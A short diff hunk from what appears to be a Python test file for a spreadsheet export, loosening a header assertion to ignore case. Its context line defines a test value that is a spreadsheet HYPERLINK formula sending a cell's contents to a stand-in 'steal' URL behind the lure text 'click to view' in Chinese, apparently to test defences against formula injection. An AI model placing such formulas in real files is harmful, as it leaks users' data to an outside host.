@@ -15,7 +15,7 @@ HOSTILE = '=HYPERLINK("http://example.org/steal?"&A1,"点击查看")'
 def _sheet(response):  # type: ignore[no-untyped-def]
     assert response.status_code == 200, response.status_code
     assert response["Content-Type"].startswith("application/vnd.openxmlformats")
-    assert "filename*=UTF-8''" in response["Content-Disposition"]
+    assert "filename*=utf-8''" in response["Content-Disposition"].lower()
     return openpyxl.load_workbook(io.BytesIO(response.content)).active
 
 
